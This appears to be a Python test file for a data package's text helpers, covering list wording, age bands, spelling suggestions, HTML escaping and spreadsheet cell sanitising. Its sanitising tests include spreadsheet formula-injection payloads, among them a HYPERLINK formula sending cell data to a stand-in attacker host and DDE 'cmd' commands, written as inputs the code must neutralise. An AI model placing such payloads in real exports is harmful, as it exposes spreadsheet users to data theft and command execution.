"""The text helpers every layer shares."""

from __future__ import annotations

import re

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from evidence.core.text import (
    FORMULA_START,
    age_band_text,
    closest_choice,
    column_title,
    counted,
    did_you_mean,
    list_separator,
    number_in_words,
    spreadsheet_frame,
    spreadsheet_text,
    word_list,
)


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("prevalence_per_1000", "Prevalence per 1000"),
        ("_share", "Share"),
        ("count_low", "Count low"),
        ("Tier", "Tier"),
        ("ISO3_code", "Iso3 code"),
        ("", ""),
    ],
)
def test_a_column_name_reads_as_a_title(name: str, title: str) -> None:
    assert column_title(name) == title


@given(st.text(alphabet="abcXYZ_019 ", max_size=20))
def test_a_title_has_no_underscore_and_at_most_its_first_letter_capital(name: str) -> None:
    title = column_title(name)
    assert "_" not in title and title[1:] == title[1:].lower()
    assert title.lower() == name.lstrip("_").replace("_", " ").lower()


@pytest.mark.parametrize(
    ("items", "last", "text"),
    [
        ([], "and", ""),
        (["Malaysia"], "and", "Malaysia"),
        (["Malaysia", "Thailand"], "and", "Malaysia and Thailand"),
        (
            ["Viet Nam", "Ukraine", "Costa Rica", "Slovakia"],
            "and",
            "Viet Nam, Ukraine, Costa Rica and Slovakia",
        ),
        (
            ["the United Kingdom (2007)", "Malaysia (2008)"],
            "or",
            "the United Kingdom (2007) or Malaysia (2008)",
        ),
    ],
)
def test_a_list_reads_as_a_sentence_says_it(items: list[str], last: str, text: str) -> None:
    assert word_list(items, last) == text


@pytest.mark.parametrize(
    ("n", "words"),
    [
        (0, "zero"),
        (9, "nine"),
        (13, "thirteen"),
        (20, "twenty"),
        (21, "twenty-one"),
        (99, "ninety-nine"),
        (1250, "1,250"),
    ],
)
def test_a_number_below_a_hundred_is_said_in_words(n: int, words: str) -> None:
    assert number_in_words(n) == words


@given(st.lists(st.text(alphabet="abc XYZ", min_size=1, max_size=8), min_size=2, max_size=6))
def test_a_list_of_several_ends_with_and_before_its_last_item(items: list[str]) -> None:
    text = word_list(items)
    assert text.endswith(f" and {items[-1]}") and text.startswith(items[0])
    assert text.count(", ") >= len(items) - 2


def test_a_list_of_names_holding_commas_is_separated_by_semicolons() -> None:
    """The world review: China's neighbours read "China, Hong Kong SAR, China, Macao SAR, Democratic People's
    Republic of Korea" (China twice, five places for four), the Bahamas' "Bonaire, Sint Eustatius and Saba,
    British Virgin Islands"; a comma inside brackets ("Malaysia (2011–2012, 2019)") is no separator."""
    places = ["China, Hong Kong SAR", "China, Macao SAR", "Japan"]
    assert list_separator(places) == "; "
    assert word_list(places) == "China, Hong Kong SAR; China, Macao SAR and Japan"
    assert (
        word_list(["Bonaire, Sint Eustatius and Saba", "Cuba"], "or")
        == "Bonaire, Sint Eustatius and Saba or Cuba"
    )
    assert list_separator(["Malaysia (2011–2012, 2019)", "Thailand"]) == ", "
    assert word_list(["Malaysia (2011–2012, 2019)", "Thailand", "Peru"]) == (
        "Malaysia (2011–2012, 2019), Thailand and Peru"
    )
    assert list_separator(["Viet Nam", "Ukraine"]) == ", " and list_separator([]) == ", "


def test_the_unsafe_format_characters_are_every_format_character_but_the_joiners() -> None:
    import sys
    import unicodedata

    from evidence.core.text import UNSAFE_FORMAT

    for code in range(sys.maxunicode + 1):
        char = chr(code)
        if unicodedata.category(char) == "Cf" and char not in "\u200c\u200d":
            assert UNSAFE_FORMAT.fullmatch(char), hex(code)
        elif UNSAFE_FORMAT.fullmatch(char):
            # only the format characters of a Unicode newer than this Python's (Egyptian hieroglyph controls)
            assert 0x13439 <= code <= 0x1343F, hex(code)


# ------------------------------------------------------------------------------ cells for spreadsheets


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1+1", "'-1+1"),
        # numbers are numbers: negative, signed, decimal, with thousands or an exponent
        ("-3", "-3"),
        ("+1.5", "+1.5"),
        ("-1,234.5", "-1,234.5"),
        ("-2e-3", "-2e-3"),
        ("Thailand", "Thailand"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_spreadsheet_shows_a_formula_from_data_as_text(text: str, cell: str) -> None:
    assert spreadsheet_text(text) == cell


def test_a_frame_for_a_spreadsheet_keeps_its_numbers_and_neutralises_its_texts() -> None:
    frame = pl.DataFrame(
        {
            "country": ["=cmd|x", "Thailand", None, "-5"],
            "@SUM(A1)": [-1, 2, 3, 4],
            "label": pl.Series(["@x", "b", "c", "d"], dtype=pl.Categorical),
            "value": [-1.5, 0.0, None, 2.0],
        }
    )
    safe = spreadsheet_frame(frame)
    assert safe.columns == ["country", "'@SUM(A1)", "label", "value"]
    assert safe["country"].to_list() == ["'=cmd|x", "Thailand", None, "-5"]
    assert safe["label"].cast(pl.String).to_list() == ["'@x", "b", "c", "d"]
    assert safe["'@SUM(A1)"].to_list() == [-1, 2, 3, 4] and safe["value"].equals(frame["value"])
    plain = frame.select("value").with_columns(text=pl.lit("-x").str.slice(1))
    assert spreadsheet_frame(plain).write_csv() == plain.write_csv()  # nothing to do: the same bytes


@given(st.text(max_size=12))
def test_no_cell_starts_a_formula(text: str) -> None:
    cell = spreadsheet_text(text)
    assert not cell.startswith(FORMULA_START) or re.fullmatch(r"[+-][\d.,eE+-]*", cell)
    assert cell in (text, "'" + text)


@settings(max_examples=60, deadline=None, derandomize=True)
@given(
    st.lists(
        st.text(max_size=12) | st.sampled_from(["\u202e", "\u2066", "<b>", "&amp;", '"', "'"]), max_size=6
    )
)
def test_an_overview_for_jupyterlab_shows_its_texts_as_themselves(parts: list[str]) -> None:
    """What JupyterLab shows of a result left as a cell's value (and what a brief made from the notebook reads):
    every text escaped, and no invisible format character (a right-to-left override in a category, "Lao<RLO>RDP",
    showed the texts after it reversed) — as every other escape of untrusted text for HTML does."""
    from html.parser import HTMLParser

    from evidence.core.text import UNSAFE_FORMAT, overview_html, strip_unsafe_format

    text = "".join(parts)
    page = overview_html(text, text, [(text, [text, "x"])])
    assert not UNSAFE_FORMAT.search(page)
    seen: list[str] = []
    tags: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            tags.append(tag)

        def handle_data(self, data: str) -> None:
            seen.append(data)

    Reader(convert_charrefs=True).feed(page)
    assert set(tags) <= {"table", "caption", "b", "tr", "th", "td", "br"}
    assert strip_unsafe_format(text) in "".join(seen) or not strip_unsafe_format(text).strip()


@pytest.mark.parametrize(
    ("word", "choices", "meant"),
    [
        ("gendr", ["none", "form", "gender", "age_band"], "gender"),
        ("Gendr", ["none", "form", "gender"], "gender"),  # letter case aside
        (" dest ", ["origin", "destination"], "destination"),  # cut short
        ("unodc-gltip", ["tip-tiers-kelley", "unodc-glotip", "walkfree-gsi-2023"], "unodc-glotip"),
        ("xyz", ["none", "form", "gender"], None),
        ("", ["none", "form"], None),
        ("c", ["citizenship", "corridor"], None),  # begins two: neither is said
    ],
)
def test_a_misspelt_name_is_told_the_choice_meant(word: str, choices: list[str], meant: str | None) -> None:
    """QA27: the one rule of every "did you mean" (notebooks, parameters, releases, dimensions, CLI choices)."""
    assert closest_choice(word, choices) == meant
    assert did_you_mean(word, choices) == (f"; did you mean {meant!r}?" if meant else "")


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=12), st.lists(st.text(min_size=1, max_size=12), max_size=6))
def test_a_suggestion_is_always_one_of_the_choices(word: str, choices: list[str]) -> None:
    meant = closest_choice(word, choices)
    assert meant is None or meant in choices


def test_counted_says_one_in_the_singular() -> None:
    assert [counted(n, "row") for n in (0, 1, 2, 1234)] == ["0 rows", "1 row", "2 rows", "1,234 rows"]
    assert counted(1, "recorded country", "recorded countries") == "1 recorded country"
    assert counted(3, "recorded country", "recorded countries") == "3 recorded countries"


@pytest.mark.parametrize(
    ("band", "written"),
    [
        ("9-17", "9–17 years"),  # CTDC's code
        ("48+", "48 years or over"),
        ("0-17", "0–17 years"),  # the person section's group
        ("0 to 17 years", "0–17 years"),  # UNODC's words
        ("18 years or over", "18 years or over"),
        ("9–17 years", "9–17 years"),  # as written: the same again
        ("1+", "1 year or over"),
        ("17-17", "17 years"),
        ("1-1", "1 year"),
        ("Unknown", None),
        ("Total", None),
        ("17-9", None),  # no band: a code, a score
        ("", None),
    ],
)
def test_an_age_band_is_written_one_way_whichever_source_named_it(band: str, written: str | None) -> None:
    assert age_band_text(band) == written


@given(
    low=st.integers(0, 130),
    span=st.integers(0, 130),
    spelling=st.sampled_from(["{}-{}", "{} to {} years", "{}–{}"]),
)
def test_any_closed_age_band_reads_from_its_youngest_to_its_oldest_age_in_years(
    low: int, span: int, spelling: str
) -> None:
    high = low + span
    written = age_band_text(spelling.format(low, high))
    assert written == (f"{low}–{high} years" if span else f"{low} year" + ("" if low == 1 else "s"))
    assert age_band_text(written) == written  # written once, the same again: no caller writes it twice over
    assert int(re.match(r"\d+", written).group()) == low  # it opens on its youngest age: sorts by number
    if span:
        assert age_band_text(spelling.format(high, low)) is None  # reversed: no band


@given(low=st.integers(0, 130), spelling=st.sampled_from(["{}+", "{} years or over", "{} +"]))
def test_any_open_age_band_reads_as_its_youngest_age_or_over(low: int, spelling: str) -> None:
    written = age_band_text(spelling.format(low))
    assert written == f"{low} {'year' if low == 1 else 'years'} or over"
    assert age_band_text(written) == written


@given(bands=st.lists(st.tuples(st.integers(0, 99), st.integers(0, 99)), min_size=2, max_size=8))
def test_age_bands_written_keep_their_numeric_order(bands: list[tuple[int, int]]) -> None:
    """Sorted by their youngest age, the bands as written sort as their codes did ("9–17 years" before
    "18–20 years", which sorting the text would put first)."""
    codes = sorted({(min(a, b), max(a, b)) for a, b in bands})
    written = [age_band_text(f"{low}-{high}") or "" for low, high in codes]
    assert sorted(written, key=lambda w: int(w.split()[0].split("–")[0])) == written
